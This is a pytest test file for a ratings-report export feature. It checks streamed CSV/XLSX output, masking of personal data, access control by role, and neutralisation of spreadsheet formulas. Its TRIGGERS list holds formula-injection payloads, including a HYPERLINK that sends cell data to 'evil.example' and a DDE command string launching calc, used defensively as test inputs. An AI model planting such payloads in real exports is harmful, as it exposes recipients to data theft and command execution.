"""Exports: the satisfaction view and raw ratings as streamed CSV and XLSX, masked."""

import csv
import io
import zipfile
from collections.abc import Iterator

import factories as f
import pytest
import ratings_factories as rf

from core.calendar import local_date
from core.db import utcnow
from core.models import Role
from reports.stats import exports
from reports.stats.service import Filters


def _rated(dept, level=2):
    return rf.rate(rf.event(dept), level, contact={"name": "张三丰", "phone": "13812345678"}, comment="电话13812345678")


def _csv(response):
    text = b"".join(response.response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_raw_ratings_stream_masked(client):
    dept, other = f.department(), f.department()
    manager, handler = f.user(Role.MANAGER), f.user(Role.HANDLER, dept)
    made = [_rated(dept, level) for level in (1, 4, 5)] + [_rated(other, 3)]
    day = local_date(utcnow()).isoformat()
    response = client.get(f"/api/v1/stats/ratings/export?from={day}&to={day}", headers=f.bearer(manager))
    assert response.status_code == 200 and response.is_streamed
    assert response.headers["Content-Disposition"] == f'attachment; filename="ratings-{day}-{day}.csv"'
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = _csv(response)
    assert rows[0] == exports.titles(exports.RATING_COLUMNS) and rows[0][2] == "评价时间（北京时间）"
    assert [int(r[0]) for r in rows[1:]] == sorted(r.id for r in made)
    body = "\n".join(",".join(r) for r in rows)
    assert "张三丰" not in body and "13812345678" not in body and "138****5678" in body
    own = _csv(client.get(f"/api/v1/stats/ratings/export?from={day}&to={day}", headers=f.bearer(handler)))
    assert {r[3] for r in own[1:]} == {dept.code}
    hidden = client.get(f"/api/v1/stats/ratings/export?department={other.code}", headers=f.bearer(handler))
    assert hidden.status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_statistics_view_exports(client, fmt):
    dept = f.department()
    manager = f.user(Role.MANAGER)
    _rated(dept, 1)
    _rated(dept, 5)
    day = local_date(utcnow()).isoformat()
    url = f"/api/v1/stats/satisfaction/export?from={day}&to={day}&group_by=department&department={dept.code}"
    response = client.get(f"{url}&format={fmt}", headers=f.bearer(manager))
    assert response.status_code == 200 and response.is_streamed
    data = b"".join(response.response)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert rows[0] == exports.titles(exports.STATS_COLUMNS) and rows[0][-3:] == ["满意率", "好评率", "差评率"]
        assert rows[1][:4] == ["", "合计", "2", "2"] and rows[2][:3] == [dept.code, dept.name, "2"]
        assert rows[2][-1] == "50.00%"
    else:
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            strings = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
        assert dept.name in sheet + strings and "满意率" in sheet + strings
    assert client.get(url, headers=f.bearer(f.user(Role.AGENT))).status_code == 403


def test_xlsx_is_written_in_constant_memory_mode():
    rows = ((i, f"name {i}") for i in range(3000))
    with zipfile.ZipFile(io.BytesIO(b"".join(exports.xlsx_stream(("n", "name"), rows)))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert 'r="A3001"' in sheet and "<t>name 2999</t>" in sheet  # inline strings: no string table kept


def test_raw_rows_come_in_keyset_batches(ctx):
    dept = f.department()
    made = [_rated(dept, level) for level in (1, 2, 3, 4, 5)]
    day = local_date(utcnow())
    rows = exports.rating_rows(Filters(day, day, department_id=dept.id), batch=2)
    assert isinstance(rows, Iterator)  # nothing is read before the first row is asked for
    assert [row[0] for row in rows] == [r.id for r in made]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TRIGGERS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _xlsx_cells(data: bytes) -> list[list[object]]:
    import openpyxl

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", TRIGGERS)
def test_a_formula_in_a_rating_comment_is_inert_text_in_both_formats(client, text):
    """Issue 14: a rating comment `=HYPERLINK(...)` must not be a live formula in the export."""
    dept, manager = f.department(), f.user(Role.MANAGER)
    text = rf.rate(rf.event(dept), 2, comment=text).comment  # as stored (stripped)
    assert text.startswith(exports.FORMULA_TRIGGERS)
    day = local_date(utcnow()).isoformat()
    url = f"/api/v1/stats/ratings/export?from={day}&to={day}&department={dept.code}"
    rows = _csv(client.get(f"{url}&format=csv", headers=f.bearer(manager)))
    comment = rows[1][exports.RATING_HEADER.index("comment")]
    assert comment == "'" + text
    response = client.get(f"{url}&format=xlsx", headers=f.bearer(manager))
    cells = _xlsx_cells(b"".join(response.response))
    cell = cells[1][exports.RATING_HEADER.index("comment")]
    assert cell.data_type == "s", (cell.data_type, cell.value)  # a string, not a formula ("f")
    assert cell.value == text
    assert not [c for row in cells for c in row if c.data_type == "f" or c.hyperlink is not None]


def test_inert_cell_keeps_numbers_and_plain_text():
    assert exports.inert_cell(-5) == -5 and exports.inert_cell(2.5) == 2.5 and exports.inert_cell(None) == ""
    assert exports.inert_cell("海口市") == "海口市" and exports.inert_cell("=1") == "'=1"
    assert exports.inert_cell("\t=1") == "'\t=1" and exports.inert_cell("\r=1") == "'\r=1"
